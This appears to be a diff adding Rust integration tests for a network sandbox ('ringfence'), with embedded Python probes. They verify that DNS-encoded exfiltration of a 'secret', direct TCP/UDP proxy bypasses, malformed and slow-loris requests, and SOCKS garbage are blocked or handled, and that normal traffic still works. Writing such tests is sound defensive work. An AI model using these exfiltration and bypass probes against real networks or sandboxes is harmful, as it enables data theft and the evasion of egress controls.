+out('connect', code)
+s, code = socks('%s.s%s.wild.test' % (secret, N), 443)
+out('socks', code)
+try:
+    out('getaddrinfo', 'RESOLVED', socket.getaddrinfo('%s.g%s.wild.test' % (secret, N), 443))
+except Exception as e:
+    out('getaddrinfo', 'ERR', e)
+p = subprocess.run(['getent', 'hosts', '%s.e%s.wild.test' % (secret, N)], capture_output=True)
+out('getent', 'rc=%d' % p.returncode, p.stdout.decode())
+curl('control', 'http://ok%s.wild.test/hello' % M)
+"#;
+
+/// DNS exfiltration: a name that isn't allowed is never sent to the resolver, whether asked
+/// for through the HTTP proxy, CONNECT or SOCKS5, and the sandbox's own lookups (getaddrinfo,
+/// getent) fail without reaching it; with the system resolver and with `--resolver`. Controls:
+/// the allowed name reaches the resolver (and the events say which resolver), and the same
+/// getent on H unsandboxed does too.
+#[test]
+fn denied_names_never_reach_the_resolver() {
+    each_identity("hostdns", |lab, env, h| {
+        for resolver in [None, Some("192.0.2.53")] {
+            let m = unique("dns");
+            let n = unique("exfil");
+            let ok = format!("ok{m}.wild.test");
+            let mut args = vec!["--allow-host", "allowed.test", "--allow-host", &ok];
+            if let Some(r) = resolver {
+                args.extend(["--resolver", r]);
+            }
+            let run = Run::sandboxed_argv(lab, env, &args, PY_DNS, &[&m, &n]);
+            assert_code(&run.out, 0);
+            assert_403(&run, "proxy");
+            run.expect("connect", &["403"]);
+            run.expect("socks", &["2"]);
+            run.expect("getaddrinfo", &["ERR"]);
+            run.expect_not("getent", &["rc=0"]);
+            let seen = lab.queries_with(&n);
+            run.check(seen.is_empty(), &format!("resolver {resolver:?}: the resolver saw {seen:?}"));
+            run.check(run.events_with("net.dns", &[]).iter().all(|e| !e["name"].to_string().contains(&n)), "net.dns");
+
+            run.expect("control", &["rc=0", &format!("hello from 192.0.2.10 host={ok}")]);
+            run.check(!lab.queries_with(&ok).is_empty(), "control: the resolver did not see the allowed name");
+            let label = resolver.map_or("system".to_string(), |r| format!("{r}:53"));
+            run.event("net.dns", &[("name", &ok), ("resolver", &label)]);
+        }
+        // Control: a lookup on H without ringfence reaches the resolver.
+        let who = env.who;
+        let out = lab.host_sh(env, &format!("getent hosts c2VjcmV0.{h}.wild.test"));
+        assert!(stdout(&out).contains("192.0.2.10"), "{who:?}: control lookup on H: {}", both(&out));
+        assert!(!lab.queries_with(h).is_empty(), "{who:?}: control lookup on H not seen");
+    });
+}
+
+const PY_BYPASS: &str = r#"
+def tcp(name, host, port, payload):
+    fam = socket.AF_INET6 if ':' in host else socket.AF_INET
+    s = socket.socket(fam, socket.SOCK_STREAM)
+    s.settimeout(3)
+    try:
+        s.connect((host, port))
+        s.sendall(payload)
+        out(name, 'CONNECTED', recv_head(s)[:60])
+    except Exception as e:
+        out(name, 'FAILED', e)
+
+def dns_query(name):
+    q = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00'
+    for label in name.split('.'):
+        q += bytes([len(label)]) + label.encode()
+    return q + b'\x00\x00\x01\x00\x01'
+
+req = b'GET /hello?m=%s-direct HTTP/1.1\r\nHost: allowed.test\r\n\r\n' % M.encode()
+tcp('tcp-v4', '192.0.2.10', 80, req)
+tcp('tcp-far', '203.0.113.10', 80, req)
+tcp('tcp-v6', '2001:db8::10', 80, req)
+tcp('tcp-dns', '192.0.2.53', 53, b'\x00\x20' + dns_query('t%s.wild.test' % M))
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.settimeout(3)
+try:
+    u.sendto(dns_query('u%s.wild.test' % M), ('192.0.2.53', 53))
+    out('udp-dns', 'ANSWERED', len(u.recv(4096)))
+except Exception as e:
+    out('udp-dns', 'FAILED', e)
+u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+try:
+    u6.sendto(b'exfil u6%s' % M.encode(), ('2001:db8::10', 53))
+    out('udp-v6', 'SENT')
+except Exception as e:
+    out('udp-v6', 'FAILED', e)
+curl('noproxy', '--noproxy', '*', 'http://allowed.test/hello?m=%s-direct' % M)
+if os.environ.get('http_proxy'):
+    curl('via-proxy', 'http://allowed.test/hello?m=%s-via-proxy' % M)
+"#;
+
+/// Bypassing the proxy: direct TCP to the internet's addresses (IPv4 and IPv6), to the
+/// resolver over TCP and UDP, and curl with `--noproxy '*'` all fail inside the sandbox and
+/// nothing arrives, while the proxy works in the same run. Control: the same script on H
+/// without ringfence reaches every server.
+#[test]
+fn direct_connections_bypassing_the_proxy_fail() {
+    let quiet = [ip("203.0.113.10"), ip("2001:db8::10")];
+    each_identity("bypass", |lab, env, m| {
+        let who = env.who;
+        let before = connection_counts(lab, &quiet);
+        let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], PY_BYPASS, m);
+        assert_code(&run.out, 0);
+        run.expect("via-proxy", &["rc=0", "hello from 192.0.2.10"]);
+        for name in ["tcp-v4", "tcp-far", "tcp-v6", "tcp-dns", "udp-dns", "udp-v6"] {
+            run.expect(name, &["FAILED"]);
+        }
+        run.expect_not("noproxy", &["rc=0", "hello from"]);
+        run.check(lab.requests_with(&format!("{m}-direct")).is_empty(), "a direct request arrived");
+        run.check_no_new_connections(lab, &quiet, &before);
+        run.check(lab.queries_with(m).is_empty(), "the resolver got a direct query");
+
+        // Control: the same probes without ringfence get through.
+        let c = unique("bypassctl");
+        let host = Run::unsandboxed(lab, env, PY_BYPASS, &c);
+        for name in ["tcp-v4", "tcp-far", "tcp-v6", "tcp-dns"] {
+            host.expect(name, &["CONNECTED"]);
+        }
+        host.expect("udp-dns", &["ANSWERED"]);
+        host.expect("noproxy", &["rc=0", "hello from 192.0.2.10"]);
+        assert!(lab.requests_with(&format!("{c}-direct")).len() >= 3, "{who:?}: control requests not seen");
+        assert!(!lab.queries_with(&format!("u{c}")).is_empty(), "{who:?}: control query not seen");
+        for (a, b) in quiet.iter().zip(&before) {
+            assert!(lab.connections_to(Side::Internet, *a) > *b, "{who:?}: control: {a} saw no connection");
+        }
+    });
+}
+
+const PY_ROBUST: &str = r#"
+def exchange(port, data, timeout=5):
+    """Sends data; returns what came back, and whether the gateway closed (not timed out)."""
+    s = proxy(port, timeout)
+    got = b''
+    try:
+        s.sendall(data)
+        while True:
+            chunk = s.recv(65536)
+            if not chunk:
+                return got, True
+            got += chunk
+    except socket.timeout:
+        return got, False
+    except OSError:
+        return got, True
+
+def normal(name):
+    s = proxy()
+    s.sendall(b'GET http://allowed.test/hello?m=%s-%s HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n'
+              % (M.encode(), name.encode()))
+    out(name, recv_all(s).decode(errors='replace'))
+
+loris = proxy(3128, 20)
+loris.sendall(b'GET http://allowed.test/hello HTTP/1.1\r\nHost: allo')
+started = time.time()
+
+malformed = {
+    'no-target': b'CONNECT\r\n\r\n',
+    'bad-port': b'CONNECT allowed.test:99999 HTTP/1.1\r\nHost: allowed.test:99999\r\n\r\n',
+    'no-colon-header': b'CONNECT allowed.test:443 HTTP/1.1\r\nthis is no header\r\n\r\n',
+    'binary': b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n',
+    'space-in-host': b'CONNECT allowed .test:443 HTTP/1.1\r\n\r\n',
+    'relative-get': b'GET /hello HTTP/1.1\r\nHost: allowed.test\r\n\r\n',
+}
+for name, data in malformed.items():
+    out(name, status(exchange(3128, data)[0]))
+big = b'GET http://allowed.test/hello HTTP/1.1\r\nHost: allowed.test\r\nX-Big: ' + b'a' * 40000 + b'\r\n\r\n'
+out('oversized', status(exchange(3128, big)[0]))
+out('bad-gateway', status(exchange(3128, b'GET http://other.test:81/ HTTP/1.1\r\nHost: other.test:81\r\n\r\n')[0]))
+
+def socks_garbage(name, data):
+    got, closed = exchange(1080, data)
+    out(name, 'closed=%s' % closed, repr(got))
+socks_garbage('socks-v4', b'\x04\x01\x00\x50\xc0\x00\x02\x0a\x00')
+socks_garbage('socks-http', b'GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n')
+socks_garbage('socks-no-methods', b'\x05\x00')
+socks_garbage('socks-bad-request', b'\x05\x01\x00' + b'\xff' * 300)
+socks_garbage('socks-bad-atyp', b'\x05\x01\x00\x05\x01\x00\x09' + b'\x00' * 40)
+s, code = socks('allowed.test', 443, cmd=2)
+out('socks-bind', code)
+s, code = socks('allowed.test', 443, cmd=3)
+out('socks-udp', code)
+
+threads = [threading.Thread(target=normal, args=('during-%d' % i,)) for i in range(3)]
+for t in threads:
+    t.start()
+for t in threads:
+    t.join()
+s, code = socks('allowed.test', 443)
+out('during-socks', code, https_get(s, 'allowed.test', '/hello?m=%s-during-socks' % M))
+out('loris-pending', time.time() - started < 9)
+
+head = recv_head(loris)
+out('loris', status(head), round(time.time() - started, 1), repr(recv_all(loris))[:40])
+normal('after')
+"#;
+
+/// Robustness: malformed CONNECT lines get 400, an oversized head 431, an unreachable
+/// upstream 502, a slow-loris client 408 and a close after 10 s, SOCKS garbage a close, and
+/// unsupported SOCKS commands reply 7, while normal requests through the same gateway (HTTP and
+/// SOCKS5, during and after the abuse) still succeed.
+#[test]
+fn gateway_survives_bad_clients() {
+    let Some(lab) = lab() else { return };
+    // The slow-loris probe waits out the gateway's 10 s head timeout: the identities run side
+    // by side.
+    std::thread::scope(|scope| {
+        let runs: Vec<_> = identities()
+            .into_iter()
+            .map(|who| scope.spawn(move || bad_clients(lab, &Env::new(who), &unique("robust"))))
+            .collect();
+        for run in runs {
+            if let Err(panic) = run.join() {
+                std::panic::resume_unwind(panic);
+            }
+        }
+    });
+}
+
+fn bad_clients(lab: &Lab, env: &Env, m: &str) {
+    let args = ["--allow-host", "allowed.test", "--allow-host", "other.test:81"];
+    let run = Run::sandboxed(lab, env, &args, PY_ROBUST, m);
+    assert_code(&run.out, 0);
+    for name in ["no-target", "bad-port", "no-colon-header", "binary", "space-in-host", "relative-get"] {
+        run.expect(name, &["400"]);
+    }
+    run.expect("oversized", &["431"]);
+    run.expect("bad-gateway", &["502"]);
+    // Garbage is answered by a close: at most the method choice and a failure reply.
+    for name in ["socks-v4", "socks-http", "socks-no-methods", "socks-bad-request", "socks-bad-atyp"] {
+        let got = run.get(name);
+        run.check(got.starts_with("closed=True"), &format!("{name}: not closed: {got}"));
+        run.check(!got.contains(r"\x05\x00\x00"), &format!("{name}: a success reply: {got}"));
+    }
+    run.expect("socks-bind", &["7"]);
+    run.expect("socks-udp", &["7"]);
+    for name in ["during-0", "during-1", "during-2", "after"] {
+        run.expect(name, &["HTTP/1.1 200", "hello from 192.0.2.10"]);
+    }
+    run.expect("during-socks", &["0 ", "hello from 192.0.2.10"]);
+    run.expect("loris-pending", &["True"]);
+    let loris: Vec<&str> = run.get("loris").split(' ').collect();
+    run.check(loris[0] == "408", "slow loris: no 408");
+    let waited: f64 = loris[1].parse().unwrap();
+    run.check((8.0..=15.0).contains(&waited), &format!("slow loris answered after {waited} s"));
+    run.check(!run.events_with("net.deny", &[("reason", "bad-request")]).is_empty(), "no bad-request event");
+}
+
+const PY_HTTP: &str = r#"
+import http.client
+c = http.client.HTTPConnection('127.0.0.1', 3128, timeout=20)
+c.request('GET', 'http://allowed.test/hello?m=%s-ka1' % M)
+r1 = c.getresponse(); b1 = r1.read(); p1 = c.sock.getsockname()
+c.request('GET', 'http://allowed.test/hello?m=%s-ka2' % M)
+r2 = c.getresponse(); b2 = r2.read(); p2 = c.sock.getsockname()
+out('keepalive', r1.status, r2.status, 'same-connection=%s' % (p1 == p2), b2.decode())
+
+chunks = [bytes([i]) * (1000 + 37 * i) for i in range(200)]
+expected = hashlib.sha256(b''.join(chunks)).hexdigest()
+started = time.time()
+c.request('POST', 'http://allowed.test/upload?m=%s-chunked' % M, body=iter(chunks),
+          headers={'Transfer-Encoding': 'chunked'}, encode_chunked=True)
+r = c.getresponse()
+out('chunked', r.status, r.read().decode().strip(), 'expected=len=%d sha256=%s' % (sum(map(len, chunks)), expected))
+out('chunked-time', round(time.time() - started, 3))
+c.close()
+
+def make(path, size):
+    with open(path, 'wb') as f:
+        block = os.urandom(1 << 20)
+        for i in range(size >> 20):
+            f.write(block[i:] + block[:i])
+    h = hashlib.sha256()
+    with open(path, 'rb') as f:
+        for b in iter(lambda: f.read(1 << 20), b''):
+            h.update(b)
+    return 'len=%d sha256=%s' % (size, h.hexdigest())
+
+big = make('big.bin', 64 << 20)
+curl('big', '-m', '120', '--data-binary', '@big.bin', 'http://allowed.test/upload?m=%s-big' % M)
+out('big-expected', big)
+mid = make('mid.bin', 2 << 20)
+out('mid-expected', mid)
+curl('expect-plain', '-T', 'mid.bin', '-w', ' time=%{time_total}', 'http://allowed.test/upload?m=' + M + '-expect-plain')
+curl('expect-tls', '--cacert', CA, '-T', 'mid.bin', '-w', ' time=%{time_total}',
+     'https://allowed.test/upload?m=' + M + '-expect-tls')
+curl('download', '--cacert', CA, '-o', '/dev/null', '-w', 'size=%{size_download}',
+     'https://allowed.test/bytes?n=33554432')
+curl('download-http', '-o', '/dev/null', '-w', 'size=%{size_download}', 'http://allowed.test/bytes?n=8388608')
+"#;
+
+/// HTTP details through the proxy: two requests on one keep-alive connection, a chunked
+/// upload, a 64 MiB upload (the server's SHA-256 matches), `Expect: 100-continue` uploads
+/// (curl -T of 2 MiB) over HTTP and HTTPS, and large downloads.
+#[test]
+fn http_keepalive_chunked_and_large_bodies() {
+    each_identity("http", |lab, env, m| {
+        let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], PY_HTTP, m);
+        assert_code(&run.out, 0);
+        run.expect("keepalive", &["200 200 same-connection=True", "hello from 192.0.2.10"]);
+        let chunked = run.get("chunked");
+        let (got, expected) = chunked.split_once(" expected=").unwrap();
+        run.check(got == format!("200 {expected}"), &format!("chunked upload: {chunked}"));
+        let big_expected = run.get("big-expected").to_string();
+        run.expect("big", &["rc=0", &big_expected]);
+        let mid_expected = run.get("mid-expected").to_string();
+        for name in ["expect-plain", "expect-tls"] {
+            run.expect(name, &["rc=0", &mid_expected]);
+            run.one_request(lab, &format!("{m}-{name}"));
+            // Without the 100 passed on, curl would wait a second before sending the body.
+            let time: f64 = run.get(name).rsplit("time=").next().unwrap().trim().parse().unwrap();
+            run.check(time < 0.9, &format!("{name}: the upload took {time} s (no 100 Continue?)"));
+        }
+        run.expect("download", &["rc=0", "size=33554432"]);
+        run.expect("download-http", &["rc=0", "size=8388608"]);
+        run.check(lab.requests_with(&format!("{m}-ka")).len() == 2, "keep-alive requests not seen");
+        let up = run.event("net.connect", &[("proto", "http-connect"), ("host", "allowed.test")]);
+        run.check(up["bytes_down"].as_u64().is_some(), "bytes");
+        let total_down: u64 = run.events_with("net.connect", &[]).iter().filter_map(|e| e["bytes_down"].as_u64()).sum();
+        let total_up: u64 = run.events_with("net.connect", &[]).iter().filter_map(|e| e["bytes_up"].as_u64()).sum();
+        run.check(total_down > 40 << 20, &format!("net.connect bytes_down add up to {total_down}"));
+        run.check(total_up > 64 << 20, &format!("net.connect bytes_up add up to {total_up}"));
+    });
+}
+
+const PY_NONE: &str = r#"
+for port in (3128, 1080):
+    try:
+        socket.create_connection(('127.0.0.1', port), timeout=3)
+        out('port-%d' % port, 'OPEN')
+    except Exception as e:
+        out('port-%d' % port, 'CLOSED', e)
+for var in ('HTTP_PROXY', 'HTTPS_PROXY', 'http_proxy', 'https_proxy', 'ALL_PROXY', 'all_proxy',
+            'NO_PROXY', 'no_proxy', 'npm_config_proxy', 'npm_config_https_proxy'):
+    out(var, os.environ.get(var))
+"#;
+
+/// With the default network (and an explicit `--network none`) there is no proxy: its
+/// ports refuse connections and no proxy variable is set. Control: with `--allow-host` the
+/// ports answer and the variables point at them.
+#[test]
+fn no_proxy_without_allow_rules() {
+    each_identity("none", |lab, env, m| {
+        for args in [&[][..], &["--network", "none"][..]] {
+            let run = Run::sandboxed(lab, env, args, PY_NONE, m);
+            assert_code(&run.out, 0);
+            run.expect("port-3128", &["CLOSED"]);
+            run.expect("port-1080", &["CLOSED"]);
+            for var in ["HTTP_PROXY", "https_proxy", "ALL_PROXY", "NO_PROXY", "npm_config_proxy"] {
+                run.expect(var, &["None"]);
+            }
+        }
+        let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], PY_NONE, m);
+        run.expect("port-3128", &["OPEN"]);
+        run.expect("port-1080", &["OPEN"]);
+        for var in
+            ["HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "npm_config_proxy", "npm_config_https_proxy"]
+        {
+            run.expect(var, &["http://127.0.0.1:3128"]);
+        }
+        for var in ["ALL_PROXY", "all_proxy"] {
+            run.expect(var, &["socks5h://127.0.0.1:1080"]);
+        }
+        for var in ["NO_PROXY", "no_proxy"] {
+            run.expect(var, &["localhost", "127.0.0.1", "::1"]);
+        }
+    });
+}
+
+/// `ringfence explain --allow-preset npm` lists the npm registry (without network access);
+/// without the preset it does not.
+#[test]
+fn explain_lists_preset_hosts() {
+    each_identity("explain", |lab, env, _| {
+        let who = env.who;
+        for (args, listed) in [(&["explain", "--allow-preset", "npm"][..], true), (&["explain"][..], false)] {
+            let out = bounded_output(lab.ringfence(env, args), RUN_LIMIT);
+            assert_code(&out, 0);
+            assert_eq!(stdout(&out).contains("registry.npmjs.org"), listed, "{who:?} {args:?}:\n{}", both(&out));
+        }
+    });
+}
